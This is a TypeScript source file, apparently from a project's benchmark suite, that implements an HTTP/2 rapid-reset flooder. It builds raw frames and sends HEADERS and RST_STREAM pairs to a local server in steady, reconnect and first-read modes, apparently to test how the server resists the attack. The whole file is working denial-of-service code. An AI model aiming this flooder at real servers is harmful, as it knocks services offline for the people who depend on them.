/**
 * A rapid-reset attacker, in a process of its own (bench/resets.ts): `node _reset-flood.js <port> <mode> <clients>
 * <streams> <seconds>`. Prints "ready", floods for `seconds`, then one JSON line. Modes:
 * - `steady`: `clients` h2c connections, each writing streams/10 GetInfo HEADERS + RST_STREAM pairs every 100 ms
 *   (`streams` a second each, under the per-connection limit when below 100); no reconnection.
 * - `reconnect`: the same, each connection opened again as soon as it is closed.
 * - `first-read`: `clients` connections, each writing the preface and `streams` pairs in one write (one read
 *   server-side), opened again as soon as they are closed.
 */
import { connect, type Socket } from "node:net";

const [port = "0", mode = "steady", clients = "200", streams = "90", seconds = "5"] = process.argv.slice(2);

function frame(type: number, flags: number, id: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
}
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const BLOCK = Buffer.concat([
  Buffer.from([0x83, 0x86]), // :method POST, :scheme http (HPACK static table)
  literal(":path", "/taskwire.v1.TaskStats/GetInfo"),
  literal(":authority", "localhost"),
  literal("content-type", "application/json"),
]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0))]);

// `n` pairs from stream id `first` on.
function pairs(first: number, n: number): Buffer {
  const out: Buffer[] = [];
  for (let i = 0, id = first; i < n; i++, id += 2) out.push(frame(1, 5, id, BLOCK), frame(3, 0, id, CANCEL));
  return Buffer.concat(out);
}

let sent = 0;
let connections = 0;
let over = false;

function open(): void {
  if (over) return;
  connections++;
  let id = 1;
  let timer: NodeJS.Timeout | undefined;
  const socket: Socket = connect(Number(port), "127.0.0.1", () => {
    if (mode === "first-read") {
      socket.write(Buffer.concat([PREFACE, pairs(1, Number(streams))]));
      sent += Number(streams);
      return;
    }
    socket.write(PREFACE);
    const perTick = Math.max(1, Math.round(Number(streams) / 10));
    timer = setInterval(() => {
      socket.write(pairs(id, perTick));
      id += 2 * perTick;
      sent += perTick;
    }, 100);
  });
  socket.on("error", () => {});
  socket.resume(); // read (and drop) what the server sends, or its close is never seen
  socket.on("close", () => {
    clearInterval(timer);
    if (mode !== "steady") setImmediate(open);
  });
}

for (let i = 0; i < Number(clients); i++) open();
console.log("ready");
setTimeout(() => {
  over = true;
  console.log(JSON.stringify({ sent, connections }));
  process.exit(0);
}, Number(seconds) * 1000);
